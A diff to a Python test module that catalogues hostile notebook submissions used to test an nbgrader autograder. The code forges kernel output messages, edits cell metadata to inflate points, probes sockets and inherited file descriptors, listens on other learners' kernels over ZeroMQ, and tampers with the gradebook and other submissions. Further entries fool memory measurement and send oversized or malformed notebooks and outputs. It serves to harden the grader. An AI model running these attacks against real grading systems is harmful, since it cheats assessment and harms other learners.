@@ -1,30 +1,42 @@
 """A catalogue of hostile submissions: one for every class of attack on the grader.
 
 Each attack is the lesson-01 solution with its ``softmax`` answer (or, where the attack is on a
-later exercise, its ``contextualize`` answer) replaced by code that tries to win the points
-without a correct answer, to harm other learners or later runs, or to stop grading. Each tries
-with a realistic attacker's knowledge: the course is open source, so it knows the folder layout
-and, here, the course's absolute path. Each leaves a marker (``attention-hostile-<name>``) in
-every file name, process and message it makes, so the tests can find any trace of it.
+later exercise, its ``contextualize`` answer; for a measurement, lesson 08's ``tiled_attention``)
+replaced by code that tries to win the points without a correct answer, to harm other learners
+or later runs, or to stop grading; some also change the notebook around the answers (cell
+metadata, its bytes). Each tries with a realistic attacker's knowledge: the course is open
+source, so it knows the folder layout and, here, the course's absolute path. Each leaves a marker
+(``attention-hostile-<name>``) in every file name, process and message it makes, so the tests can
+find any trace of it, and prints ``<marker> GOT`` whenever something it should not be able to do
+worked.
 
 ``tests/test_hostile_catalogue.py`` grades them all, beside a correct learner, with ``make grade``
 and with plain ``nbgrader autograde``.
 """
 
+import json
 from dataclasses import dataclass
+from typing import Callable, Optional
 
-from attention_grading.cells import grade_id, is_solution_code, is_written_answer
+import nbformat
+
+from attention_grading.cells import grade_id, is_solution_code, is_written_answer, role
 from notebook_tools import lean, with_answer
 
 LESSON = "01_context_vectors"
+MEASURED_LESSON = "08_long_context"
+LESSONS = (LESSON, MEASURED_LESSON)
 PREFIX = "hostile-mark-"
+GOT = "GOT"                      # what an attack prints when something it tried worked
 
 
 @dataclass
 class Attack:
     """``code`` replaces the answer cell of ``target``; ``{course}``, ``{marker}``, ``{port}``,
-    ``{grader_pid}`` and ``{secret}`` are filled in. ``reorder``: contextualize's answer and
-    tests move before softmax's hidden test (the learner reordered the notebook)."""
+    ``{unix_path}``, ``{dgram_path}``, ``{zmq_port}``, ``{grader_pid}``, ``{secret}``,
+    ``{env_file}``, ``{package_file}`` and ``{python_file}`` are filled in. ``reorder``:
+    contextualize's answer and tests move before softmax's hidden test (the learner reordered the
+    notebook)."""
     target: str
     why: str
     code: str
@@ -32,7 +44,19 @@ class Attack:
     extra_files: tuple = ()      # (path, content) handed in beside the notebook
     second: tuple = ()           # (function, code): another answer the attack replaces
     delete_answer: bool = False  # the answer cell of ``target`` is deleted
-    written: str = ""            # the source of every written answer (markup the learner wrote)
+    written_text: str = ""       # the source of every written answer (markup the learner wrote)
+    lesson: str = LESSON
+    wrong: tuple = ()            # other exercises it answers wrongly: each must score 0 too
+    edit: Optional[Callable] = None    # notebook -> notebook: what it changes besides the answers
+    raw: Optional[Callable] = None     # notebook JSON text -> the bytes it hands in instead
+    graded: bool = True          # False: not a notebook the grader reads (named; everyone else graded)
+    written: tuple = ()          # written answers it tampers with: they must still await manual grading
+    correct: bool = False        # its answers are right (``code`` None: the solution's): exactly full marks
+
+    @property
+    def exercises(self):
+        """The exercises it must not gain a point on."""
+        return (self.target, *self.wrong)
 
 
 FALLBACK = "np.zeros_like(np.asarray(x, dtype=float))"   # what an attack returns when it fails
@@ -288,7 +312,7 @@ display(Javascript("window.top.__pwned = '{marker}'"))
     "script_in_answer": Attack("softmax", "hide script links, handlers and styles in the written answers", '''
 def softmax(x, axis=-1):
     return np.zeros_like(np.asarray(x, dtype=float))
-''', written=SCRIPT_ANSWER),
+''', written_text=SCRIPT_ANSWER),
     "network_exfiltration": Attack("softmax", "send its notebook out over TCP, UDP and DNS", '''
 import socket
 def softmax(x, axis=-1):
@@ -428,25 +452,423 @@ def contextualize(X):
 '''),
 }
 
+
+# ---------------------------------------------------------------- points from outputs (issue 20, item 1)
+
+ZEROS = "def softmax(x, axis=-1):\n    return np.zeros_like(np.asarray(x, dtype=float))\n"
+WRONG_CONTEXTUALIZE = ("contextualize", '''
+def contextualize(X):
+    X = np.asarray(X, dtype=float)
+    return X, np.zeros(X.shape[:-1] + X.shape[-2:-1])
+''')
+
+
+def _outputs_attack(why, code):
+    return Attack("softmax", why, ZEROS + code, second=WRONG_CONTEXTUALIZE, wrong=("contextualize",))
+
+
+ATTACKS.update({
+    "input_transformer_expression": _outputs_attack(
+        "make every later cell end in an expression (an execute_result of 3: partial credit)", '''
+get_ipython().input_transformers_post.append(lambda lines: lines + ["\\n3\\n"])
+'''),
+    "displayhook_after_every_cell": _outputs_attack(
+        "show a result (execute_result) after every later cell, from a post_run_cell hook", '''
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().displayhook(3))
+'''),
+    "forged_result_messages": _outputs_attack(
+        "send execute_result and display_data messages of its own on IOPub after every cell", '''
+def _forge(*_):
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent("shell")
+    for kind, content in (("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 1}}),
+                          ("display_data", {{"data": {{"text/plain": "3.0"}}, "metadata": {{}}}})):
+        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kernel._topic(kind))
+get_ipython().events.register("post_run_cell", _forge)
+'''),
+    "forged_outputs_in_any_order": _outputs_attack(
+        "outputs of every kind in every order: display, result, stderr, an error, cleared and redrawn", '''
+import sys
+from IPython.display import clear_output, display
+def _noise(*_):
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent("shell")
+    send = lambda kind, content: kernel.session.send(kernel.iopub_socket, kind, content, parent=parent,
+                                                     ident=kernel._topic(kind))
+    handle = display({{"text/plain": "0"}}, raw=True, display_id=True)
+    clear_output(wait=True)
+    send("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 7}})
+    print("noise on stderr", file=sys.stderr)
+    send("error", {{"ename": "Fake", "evalue": "not mine", "traceback": []}})
+    handle.update({{"text/plain": "3"}}, raw=True)
+    send("execute_result", {{"data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 8}})
+get_ipython().events.register("post_run_cell", _noise)
+'''),
+})
+
+
+# ---------------------------------------------------------------- changed cell metadata (items 1 and 9)
+
+def _meta(nb, gid):
+    return next(c for c in nb.cells if grade_id(c) == gid).metadata["nbgrader"]
+
+
+def _flip_test_flags(nb):
+    meta = _meta(nb, "softmax_matches_reference")
+    meta.update(grade=False, solution=True, locked=False)
+    return nb
+
+
+def _raise_points(nb):
+    for gid in ("softmax_matches_reference", "contextualize_matches_reference"):
+        _meta(nb, gid).update(points=300)
+        _meta(nb, gid).pop("checksum", None)
+    return nb
+
+
+def _grade_the_answer(nb):
+    _meta(nb, "softmax").update(grade=True, points=3, locked=True)
+    return nb
+
+
+def _bonus_cell(nb):
+    nb.cells.append(nbformat.v4.new_code_cell("pass  # bonus", metadata={"nbgrader": {
+        "grade": True, "grade_id": "bonus_points", "points": 50, "solution": False, "locked": True,
+        "schema_version": 3, "task": False}}))
+    return nb
+
+
+def _autograde_a_written_answer(nb):
+    cell = next(c for c in nb.cells if grade_id(c) == "self_weight_answer")
+    cell.cell_type, cell.source = "code", "pass  # full marks, please"
+    cell.outputs, cell.execution_count = [], None
+    cell.metadata["nbgrader"].update(solution=False, locked=True)
+    return nb
+
+
+def _unreadable_metadata(nb):
+    prose = [c for c in nb.cells if not role(c)]
+    if prose:
+        prose[0].metadata["nbgrader"] = "graded, please"
+    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {"grade": True, "points": 9}}))
+    _meta(nb, "softmax_matches_reference")["grade_id"] = 123
+    return nb
+
+
+def _rename_test(nb):
+    _meta(nb, "softmax_matches_reference")["grade_id"] = "softmax_is_perfect"
+    return nb
+
+
+ATTACKS.update({
+    "test_cell_flags_flipped": Attack("softmax", "turn its locked test cell into an unlocked answer cell "
+                                      "(once: Inconsistent checksums, a blank)", ZEROS, edit=_flip_test_flags),
+    "test_points_raised": Attack("softmax", "give both test cells 300 points (right answers: 3 points each, "
+                                 "no more)", None, edit=_raise_points, wrong=("contextualize",), correct=True),
+    "answer_cell_made_graded": Attack("softmax", "mark its answer cell as a graded test worth 3 points", ZEROS,
+                                      edit=_grade_the_answer),
+    "bonus_graded_cell": Attack("softmax", "add a graded cell of its own worth 50 points", ZEROS, edit=_bonus_cell),
+    "written_answer_made_autograded": Attack("softmax", "turn a written answer into an autograded code cell "
+                                             "that passes", ZEROS, edit=_autograde_a_written_answer,
+                                             written=("self_weight_answer",)),
+    "unreadable_metadata": Attack("softmax", "nbgrader metadata that nbgrader cannot read (a string, no "
+                                  "grade_id, a number for an id)", ZEROS, edit=_unreadable_metadata),
+    "renamed_test_cell": Attack("softmax", "rename its test cell's grade_id", ZEROS, edit=_rename_test),
+})
+
+
+# ---------------------------------------------------------------- every socket call (item 2)
+
+def _socket_attack(why, body):
+    return Attack("softmax", why, ZEROS + '''
+import ctypes, os, socket
+_libc = ctypes.CDLL(None, use_errno=True)
+
+def _try(what, action):
+    try:
+        action()
+        print("{marker} ''' + GOT + ''' through", what)
+    except Exception as exc:
+        print("refused:", what, type(exc).__name__)
+
+def _inherited():
+    """Every socket the kernel holds (its own channels among them)."""
+    found = []
+    for fd in range(3, 256):
+        try:
+            found.append(socket.socket(fileno=os.dup(fd)))
+        except OSError:
+            pass
+    return found
+
+def _syscall(number, *args):
+    if _libc.syscall(number, *args) == -1:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+''' + body)
+
+
+ATTACKS.update({
+    "tcp_fast_open": _socket_attack("open a TCP connection with Fast Open (sendto, sendmsg, sendmmsg, the "
+                                    "socket option)", '''
+_try("sendto MSG_FASTOPEN", lambda: socket.socket().sendto(b"{marker}", socket.MSG_FASTOPEN, ("127.0.0.1", {port})))
+_try("sendmsg MSG_FASTOPEN", lambda: socket.socket().sendmsg([b"{marker}"], [], socket.MSG_FASTOPEN,
+                                                                ("127.0.0.1", {port})))
+def _option_then_connect():
+    s = socket.socket()
+    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
+    s.connect(("127.0.0.1", {port}))
+    s.sendall(b"{marker}")
+_try("TCP_FASTOPEN_CONNECT", _option_then_connect)
+for s in _inherited():
+    address = "{unix_path}" if s.family == socket.AF_UNIX else ("127.0.0.1", {port})
+    _try(f"sendto MSG_FASTOPEN on fd {{s.fileno()}}", lambda: s.sendto(b"{marker}", socket.MSG_FASTOPEN, address))
+    _try(f"sendmsg MSG_FASTOPEN on fd {{s.fileno()}}", lambda: s.sendmsg([b"{marker}"], [], socket.MSG_FASTOPEN))
+    _try(f"sendmmsg MSG_FASTOPEN on fd {{s.fileno()}}", lambda: _syscall(307, s.fileno(), None, 0, 0x20000000))
+    _try(f"TCP_FASTOPEN_CONNECT on fd {{s.fileno()}}", lambda: s.setsockopt(socket.IPPROTO_TCP, 30, 1))
+'''),
+    "unix_sockets": _socket_attack("reach the grader's machine through UNIX sockets: a stream server, a "
+                                   "datagram socket, the abstract namespace", '''
+def _stream():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect("{unix_path}")
+    s.sendall(b"{marker}")
+_try("UNIX stream", _stream)
+_try("UNIX datagram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"{marker}", "{dgram_path}"))
+_try("abstract UNIX", lambda: socket.socket(socket.AF_UNIX).connect("\\0{marker}"))
+_try("a UNIX socket pair to itself", lambda: socket.socketpair()[0].sendall(b"ok") or (_ for _ in ()).throw(
+    OSError("a socket pair reaches only itself")))
+'''),
+    "raw_packet_netlink_io_uring": _socket_attack("raw, packet and netlink sockets, and io_uring's own socket "
+                                                  "calls", '''
+_try("raw ICMP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(
+    b"\\x08\\x00{marker}", ("127.0.0.1", 0)))
+_try("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
+_try("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).sendto(b"\\0" * 20, (0, 0)))
+_try("UDP", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{marker}", ("127.0.0.1", {port})))
+_try("io_uring", lambda: _syscall(425, 8, ctypes.create_string_buffer(120)))
+'''),
+    "zeromq_to_other_kernels": _socket_attack("subscribe to other kernels' IOPub (ZeroMQ SUB needs no key) over "
+                                              "TCP and IPC, to collect other learners' code", '''
+import glob, time, zmq
+_context = zmq.Context()
+_sub = _context.socket(zmq.SUB)
+_sub.subscribe(b"")
+_endpoints = [f"tcp://127.0.0.1:{{p}}" for p in ({zmq_port}, {port})]
+for pattern in ("/tmp/attention-kernel-*/ch-*", "/tmp/*/ch-*", "{course}/../*/ch-*"):
+    _endpoints += ["ipc://" + path for path in glob.glob(pattern)]
+for endpoint in _endpoints:
+    try:
+        _sub.connect(endpoint)
+    except zmq.ZMQError:
+        pass
+if _sub.poll(3000):
+    print("{marker} ''' + GOT + ''' a message:", _sub.recv()[:200])
+else:
+    print("nothing received from", len(_endpoints), "endpoints")
+_sub.close(linger=0)
+_context.term()
+'''),
+})
+
+
+# ---------------------------------------------------------------- metadata calls (item 3)
+
+METADATA_CALLS = '''
+import os, stat
+def _calls(path, keep):
+    """Every metadata call on ``path``; with ``keep``, each leaves it as it was had it worked."""
+    st = os.stat(path)
+    yield "chmod", lambda: os.chmod(path, st.st_mode & 0o7777 if keep else 0o6777)
+    yield "chown", lambda: os.chown(path, st.st_uid if keep else 65534, st.st_gid if keep else 65534)
+    yield "utime", lambda: os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns) if keep else (4 * 10**18,) * 2)
+    yield "setxattr", lambda: (os.setxattr(path, "user.{marker}", b"x"),
+                               keep and os.removexattr(path, "user.{marker}"))
+    yield "link", lambda: (os.link(path, path + "-{marker}"), keep and os.unlink(path + "-{marker}"))
+    yield "symlink", lambda: (os.symlink("/etc/passwd", path + "-{marker}"), keep and os.unlink(path + "-{marker}"))
+    yield "rename", lambda: (os.rename(path, path + "-{marker}"), os.rename(path + "-{marker}", path))
+    yield "truncate", lambda: os.truncate(path, st.st_size if keep else 0)
+    yield "mknod", lambda: (os.mknod(path + "-{marker}", stat.S_IFIFO | 0o600), keep and os.unlink(path + "-{marker}"))
+
+def _everything(paths, keep):
+    for path in paths:
+        try:
+            calls = list(_calls(path, keep))
+        except OSError as exc:
+            print("cannot even stat", path, type(exc).__name__)
+            continue
+        for name, call in calls:
+            try:
+                call()
+                print("{marker} ''' + GOT + ''':", name, path)
+            except OSError as exc:
+                print("refused:", name, path, type(exc).__name__)
+'''
+
+ATTACKS.update({
+    "metadata_calls_on_the_course": Attack("softmax", "chmod 000 and 6777, chown, future times, xattrs, links, "
+                                           "renames, truncation and FIFOs on the course and another learner's "
+                                           "submission", ZEROS + METADATA_CALLS + '''
+_everything(["{course}/submitted/solution/01_context_vectors/01_context_vectors.ipynb",
+             "{course}/source/01_context_vectors/01_context_vectors.ipynb",
+             "{course}/instructor/grading/attention_grading/judge.py", "{course}/gradebook.db"], keep=False)
+'''),
+    "metadata_calls_on_the_environment": Attack("softmax", "every metadata call on the course environment and the "
+                                                "Python installation", ZEROS + METADATA_CALLS + '''
+import numpy, sysconfig
+_everything([numpy.__file__, sysconfig.get_paths()["purelib"], os.__file__, os.path.dirname(os.__file__)], keep=True)
+'''),
+    "metadata_calls_on_the_learner_package": Attack("softmax", "every metadata call on the learner package (mode "
+                                                    "000 on it once scored a later learner 0)",
+                                                    ZEROS + METADATA_CALLS + '''
+import attention_course
+_everything([attention_course.__file__, os.path.dirname(attention_course.__file__)], keep=True)
+'''),
+})
+
+
+# ---------------------------------------------------------------- measurements (item 4, lesson 08)
+
+def _full_matrix(trick):
+    return Attack("tiled_attention", f"build the full T × T matrix, then {trick[0]}", '''
+def _attention(Q, K, V, causal):
+    S = Q @ np.swapaxes(K, -1, -2) / np.sqrt(K.shape[-1])
+    if causal:
+        S = np.where(np.tril(np.ones(S.shape[-2:], dtype=bool)), S, -np.inf)
+    W = np.exp(S - S.max(axis=-1, keepdims=True))
+    return (W / W.sum(axis=-1, keepdims=True)) @ V
+
+def tiled_attention(Q, K, V, block_size=64, causal=False):
+    Q, K, V = (np.asarray(a, dtype=float) for a in (Q, K, V))
+''' + trick[1], lesson=MEASURED_LESSON)
+
+
+ATTACKS.update({
+    "memory_reset_peak": _full_matrix(("reset tracemalloc's peak (once: 3/3)", '''
+    import tracemalloc
+    O = _attention(Q, K, V, causal)
+    if tracemalloc.is_tracing():
+        tracemalloc.reset_peak()
+    return O
+''')),
+    "memory_stop_tracemalloc": _full_matrix(("stop tracemalloc", '''
+    import tracemalloc
+    O = _attention(Q, K, V, causal)
+    tracemalloc.stop()
+    return O
+''')),
+    "memory_in_a_child_process": _full_matrix(("compute it in a child process, whose memory the kernel's "
+                                               "own accounting never saw", '''
+    import os
+    read_end, write_end = os.pipe()
+    child = os.fork()
+    if child == 0:
+        data = np.ascontiguousarray(_attention(Q, K, V, causal)).tobytes()
+        while data:
+            data = data[os.write(write_end, data):]
+        os._exit(0)
+    os.close(write_end)
+    chunks = []
+    while chunk := os.read(read_end, 1 << 20):
+        chunks.append(chunk)
+    os.close(read_end)
+    os.waitpid(child, 0)
+    shape = np.broadcast_shapes(Q.shape[:-2], K.shape[:-2], V.shape[:-2]) + (Q.shape[-2], V.shape[-1])
+    return np.frombuffer(b"".join(chunks)).reshape(shape)
+''')),
+    "memory_clear_refs": _full_matrix(("reset its own peak resident memory (/proc/self/clear_refs)", '''
+    O = _attention(Q, K, V, causal)
+    try:
+        open("/proc/self/clear_refs", "w").write("5")
+        print("{marker} ''' + GOT + ''' clear_refs")
+    except OSError:
+        pass
+    return O
+''')),
+})
+
+
+# ---------------------------------------------------------------- learner bytes that break the grader (item 9)
+
+def _deeply_nested(text, depth=100_000):
+    """The notebook with one cell's metadata nested ``depth`` lists deep (about 200 KB)."""
+    nb = json.loads(text)
+    nb["cells"][0]["metadata"]["deep"] = "@@NESTED@@"
+    return json.dumps(nb).replace('"@@NESTED@@"', "[" * depth + "]" * depth)
+
+
+def _oversized(text, size=24 << 20):
+    nb = json.loads(text)
+    nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * size, "id": "oversized"})
+    return json.dumps(nb)
+
+
+ATTACKS.update({
+    "deeply_nested_notebook": Attack("softmax", "200 KB of nested lists (once: RecursionError in intake, and "
+                                     "nobody graded)", ZEROS, raw=_deeply_nested, graded=False),
+    "oversized_notebook": Attack("softmax", "a 24 MB notebook", ZEROS, raw=_oversized, graded=False),
+    "huge_outputs_of_every_kind": Attack("softmax", "tens of MB of display data, HTML, results, updates, widget "
+                                         "state and a huge error (once: a 151 MB autograded notebook, a 2.8 GB "
+                                         "worker)", ZEROS + '''
+import ipywidgets
+from IPython.display import HTML, display
+_block = "{marker} " + "x" * (1 << 20)
+for _ in range(30):
+    display({{"text/plain": _block}}, raw=True)
+    display(HTML("<p>" + _block + "</p>"))
+_handle = display({{"text/plain": "small"}}, raw=True, display_id=True)
+for _ in range(30):
+    _handle.update({{"text/plain": _block}}, raw=True)
+for _ in range(10):
+    display(ipywidgets.Textarea(value=_block * 4))
+get_ipython().events.register("post_run_cell", lambda *_: get_ipython().displayhook(_block))
+raise ValueError(_block * 8)
+'''),
+    "bad_image_outputs": Attack("softmax", "images that are not base64 (once: KeyError in the sanitiser, a blank)",
+                                ZEROS + '''
+from IPython.display import display
+display({{"image/png": "not base64 at all!", "text/plain": "a picture"}}, raw=True)
+display({{"image/jpeg": ["@@", "!!"], "image/gif": "%%%", "text/plain": "more pictures"}}, raw=True)
+display({{"image/svg+xml": "<svg onload=alert(1)></svg>", "image/png": "=" * 7}}, raw=True)
+'''),
+    "malformed_output_messages": Attack("softmax", "IOPub messages whose content nbformat does not allow", ZEROS + '''
+def _malformed(*_):
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent("shell")
+    for kind, content in (("display_data", {{"data": "not a mapping", "metadata": []}}),
+                          ("execute_result", {{"data": {{"image/png": {{"nested": [1, 2]}}}}, "metadata": {{}},
+                                               "execution_count": "one"}}),
+                          ("execute_result", {{"data": {{}}, "metadata": {{}}, "execution_count": 2}}),
+                          ("stream", {{"name": "stdout", "text": {{"not": "text"}}}}),
+                          ("stream", {{"name": "elsewhere", "text": "x"}}),
+                          ("error", {{"ename": 3, "evalue": None, "traceback": {{"a": 1}}}}),
+                          ("display_data", {{"data": {{"text/plain": [[[[["deep"]]]]]}}, "metadata": {{}}}}),
+                          ("update_display_data", {{"data": 7, "metadata": {{}}, "transient": {{"display_id": "x"}}}})):
+        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kernel._topic(kind))
+get_ipython().events.register("post_run_cell", _malformed)
+'''),
+})
+
+
 # What every attack above must still allow: it is the learner's own softmax, wrong on purpose
 # where the attack fails. Written answers are left empty.
 
 
 def build(answer, name, context):
-    """The submission of attack ``name`` (a notebook) and its extra files."""
+    """The submission of attack ``name``: (its notebook, its extra files, the text of the file it
+    hands in instead of the notebook, or None). ``answer``: the solved notebook of its lesson."""
     attack = ATTACKS[name]
     fill = {**context, "marker": PREFIX + name}
     nb = lean(answer)
     if attack.delete_answer:
         nb.cells = [c for c in nb.cells if not (grade_id(c) == attack.target and is_solution_code(c))]
-    else:
+    elif attack.code is not None:
         nb = with_answer(nb, attack.target, attack.code.format(**fill))
     if attack.second:
         nb = with_answer(nb, attack.second[0], attack.second[1].format(**fill))
-    if attack.written:
+    if attack.written_text:
         for cell in nb.cells:
             if is_written_answer(cell):
-                cell.source = attack.written.format(**fill)
+                cell.source = attack.written_text.format(**fill)
     if attack.reorder:
         cells = nb.cells
         first_hidden = next(i for i, c in enumerate(cells) if grade_id(c) == "softmax_matches_reference")
@@ -454,7 +876,10 @@ def build(answer, name, context):
         rest = [c for c in cells if all(c is not m for m in moving)]
         at = next(i for i, c in enumerate(rest) if c is cells[first_hidden])
         nb.cells = rest[:at] + moving + rest[at:]
-    return nb, [(path, content.format(**fill)) for path, content in attack.extra_files]
+    if attack.edit is not None:
+        nb = attack.edit(nb)
+    raw = attack.raw(nbformat.writes(nb)) if attack.raw is not None else None
+    return nb, [(path, content.format(**fill)) for path, content in attack.extra_files], raw
 
 
 def _tests_of(nb, function):
